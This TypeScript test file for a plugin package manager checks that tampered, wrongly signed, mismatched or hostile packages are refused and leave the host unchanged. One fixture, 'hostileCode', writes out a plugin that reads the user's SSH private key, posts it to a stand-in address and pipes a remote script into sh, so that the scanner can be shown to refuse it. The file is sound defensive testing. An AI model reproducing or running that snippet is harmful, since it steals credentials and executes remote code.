import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readdir } from "node:fs/promises";
import { join } from "node:path";
import test from "node:test";

import { packPackage, readPackage } from "@berth/archive";
import type { Misbehaviour } from "@berth/testkit";
import { generatePublisherKey } from "@berth/trust";

import { code, graphOfTen, installGraph, keyOf, release, versionsOf, withWorld } from "./builders.ts";
import type { World } from "./builders.ts";

const FILE = "packages/beta/words/beta.words-1.0.0.berth";
const isWords = (path: string): boolean => path === FILE;

/** Replaces the file of beta.words, and lets the index agree with it. */
function exchange({ files }: World, bytes: Uint8Array): void {
  files.files.set(FILE, bytes);
  files.changeRelease("beta.words", "1.0.0", {
    fileSize: bytes.length,
    fileDigest: `sha256:${createHash("sha256").update(bytes).digest("hex")}`,
  });
}

const answer =
  (status: number): Misbehaviour =>
  (_, response, path) =>
    isWords(path) ? void response.writeHead(status).end() : false;

const hostileCode = `
  var berthPlugin = { actions: { async echo(value) {
    const secrets = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8");
    await fetch("http://203.0.113.7/collect", { method: "POST", body: secrets });
    require("child_process").execSync("curl http://203.0.113.7/x.sh | sh");
    return value;
  } } };`;

/** One bad package among ten: how it is made, and what the refusal is. */
const cases: Readonly<Record<string, { readonly expected: string; readonly make: (world: World) => void }>> = {
  "is hostile by the scanner's verdict": {
    expected: "HOST_SCAN_REFUSED",
    make: ({ files }) =>
      files.publish(release("beta.words", "1.0.1", { "beta.base": "^1", "beta.marks": "^1" }, { code: hostileCode })),
  },
  "is no archive": { expected: "ARCHIVE_PACKAGE_INVALID", make: (world) => exchange(world, Buffer.from("no archive")) },
  "was changed after it was signed": {
    expected: "TRUST_DIGEST_WRONG",
    make: (world) => {
      const honest = release("beta.words", "1.0.0", { "beta.base": "^1", "beta.marks": "^1" });
      const forged = release(
        "beta.words",
        "1.0.0",
        { "beta.base": "^1", "beta.marks": "^1" },
        { code: "var berthPlugin = { actions: { echo: () => 666 } };" },
      );
      exchange(world, withEnvelopeOf(forged.bytes, honest.bytes));
    },
  },
  "is signed by another key than the index says": {
    expected: "HOST_INDEX_DIFFERS",
    make: (world) =>
      exchange(
        world,
        release("beta.words", "1.0.0", { "beta.base": "^1", "beta.marks": "^1" }, { key: generatePublisherKey() })
          .bytes,
      ),
  },
  "is signed by another key than its publisher's other packages": {
    expected: "HOST_KEY_CHANGED",
    make: ({ files }) =>
      files.publish(
        release("beta.words", "1.0.1", { "beta.base": "^1", "beta.marks": "^1" }, { key: generatePublisherKey() }),
      ),
  },
  "is another plugin": {
    expected: "HOST_INDEX_DIFFERS",
    make: (world) => exchange(world, release("beta.marks").bytes),
  },
  "is another release": {
    expected: "HOST_INDEX_DIFFERS",
    make: (world) => exchange(world, release("beta.words", "9.0.0").bytes),
  },
  "needs something else than the index says": {
    expected: "HOST_INDEX_DIFFERS",
    make: (world) => exchange(world, release("beta.words", "1.0.0", { "beta.base": "^1" }).bytes),
  },
  "asks for more permissions than the index says": {
    expected: "HOST_INDEX_DIFFERS",
    make: (world) =>
      exchange(
        world,
        release(
          "beta.words",
          "1.0.0",
          { "beta.base": "^1", "beta.marks": "^1" },
          {
            manifest: { permissions: [{ name: "network_restricted", hosts: ["x.example"], reason: "More." }] },
          },
        ).bytes,
      ),
  },
  "has not the announced digest": {
    expected: "CLIENT_DIGEST_WRONG",
    make: ({ files }) => files.changeRelease("beta.words", "1.0.0", { fileDigest: `sha256:${"0".repeat(64)}` }),
  },
  "has not the announced length": {
    expected: "CLIENT_LENGTH_WRONG",
    make: ({ files }) => files.changeRelease("beta.words", "1.0.0", { fileSize: 17 }),
  },
  "is announced and not there": {
    expected: "CLIENT_RELEASE_UNKNOWN",
    make: ({ server }) => void (server.misbehave = answer(404)),
  },
  "is not allowed": { expected: "CLIENT_DENIED", make: ({ server }) => void (server.misbehave = answer(403)) },
  "is behind a broken server": {
    expected: "CLIENT_REGISTRY_FAILED",
    make: ({ server }) => void (server.misbehave = answer(500)),
  },
  "breaks off every time": {
    expected: "CLIENT_REGISTRY_UNREACHABLE",
    make: ({ server, files }) => {
      server.misbehave = (_, response, path) => {
        if (!isWords(path)) return false;
        response.writeHead(200, { "content-length": files.files.get(FILE)?.length });
        response.write("x");
        setTimeout(() => response.destroy(), 5);
        return true;
      };
    },
  },
};

/** The package with the signatures of another one. */
function withEnvelopeOf(forged: Uint8Array, honest: Uint8Array): Uint8Array {
  const { files } = readPackage(forged);
  const { envelopes } = readPackage(honest);
  return packPackage({ files: Array.from(files, ([path, file]) => ({ path, ...file })), envelopes }).bytes;
}

for (const [what, { expected, make }] of Object.entries(cases)) {
  test(`one package of ten that ${what} leaves the host as it was, and is named`, () =>
    withWorld([...graphOfTen(), release("acme.before")], async (world) => {
      const { host, dataDir } = world;
      await installGraph(host, { "acme.before": "*" });
      const before = {
        versions: await versionsOf(host),
        keys: await host.trustedKeys(),
        bindings: await host.registries.bindings(),
        files: await readdir(join(dataDir, "packages")),
        journal: await host.journal(),
      };
      make(world);
      await assert.rejects(installGraph(host, { "acme.top": "^1" }), code(expected, "beta.words"));
      assert.deepEqual(
        {
          versions: await versionsOf(host),
          keys: await host.trustedKeys(),
          bindings: await host.registries.bindings(),
          files: await readdir(join(dataDir, "packages")),
          journal: await host.journal(),
        },
        before,
      );
      assert.equal(await host.call("acme.before", "echo", "well"), "well");
    }));
}

test("an index that cannot be read ends the plan and names the plugin", () =>
  withWorld(graphOfTen(), async ({ host, files }) => {
    files.change("beta.marks", () => ({ id: "beta.other" }));
    await assert.rejects(installGraph(host, { "acme.top": "^1" }), code("CLIENT_ANSWER_INVALID", "beta.marks"));
  }));

test("a missing dependency is explained, with who needs it", () =>
  withWorld(
    graphOfTen().filter(({ id }) => id !== "beta.marks"),
    async ({ host }) => {
      await assert.rejects(
        installGraph(host, { "acme.top": "^1" }),
        code("RESOLVE_NO_SOLUTION", "beta.words", "beta.marks"),
      );
    },
  ));

test("a registry that changes its answers between plan and plan is believed forwards only", () =>
  withWorld(graphOfTen(), async ({ host, files }) => {
    files.change("beta.base", () => ({ revision: 7 }));
    const plan = await host.planGraph({ plugins: { "acme.top": "^1" } });
    assert.equal(plan.members.length, 10);
    files.change("beta.base", () => ({ revision: 6, releases: [] }));
    await assert.rejects(host.planGraph({ plugins: { "acme.top": "^1" } }), code("CLIENT_ROLLED_BACK", "beta.base"));
  }));

test("within one plan every index is read once: a registry that changes while it is asked is seen in one state", () =>
  withWorld(
    [
      release("acme.base", "1.0.0"),
      release("acme.left", "1.0.0", { "acme.base": "^1" }),
      release("acme.right", "1.0.0", { "acme.base": "^1" }),
      release("acme.top", "1.0.0", { "acme.left": "*", "acme.right": "*" }),
    ],
    async ({ host, files, server }) => {
      server.misbehave = (_, __, path) => {
        // As soon as one of both was read, the release that everybody needs is replaced.
        if (path === "index/plugins/acme/left.json")
          files.publish(release("acme.base", "1.1.0"), release("acme.right", "1.1.0", { "acme.base": "^1.1" }));
        return false;
      };
      const plan = await host.planGraph({ plugins: { "acme.top": "*" } });
      const asked = server.requests.filter((path) => path.startsWith("index/plugins/"));
      assert.equal(new Set(asked).size, asked.length, "no index is read twice");
      assert.equal(plan.members.length, 4);
    },
  ));

test("a release that is exchanged between the solving and the download is refused", () =>
  withWorld(graphOfTen(), async (world) => {
    world.server.misbehave = (_, __, path) => {
      if (path.startsWith("packages/"))
        world.files.files.set(FILE, release("beta.words", "1.0.0", {}, { key: keyOf("evil") }).bytes);
      return false;
    };
    await assert.rejects(installGraph(world.host, { "acme.top": "^1" }), (error: { code: string; message: string }) => {
      assert.ok(["CLIENT_LENGTH_WRONG", "CLIENT_DIGEST_WRONG"].includes(error.code), error.code);
      assert.match(error.message, /beta\.words/);
      return true;
    });
    assert.deepEqual(await world.host.list(), []);
  }));
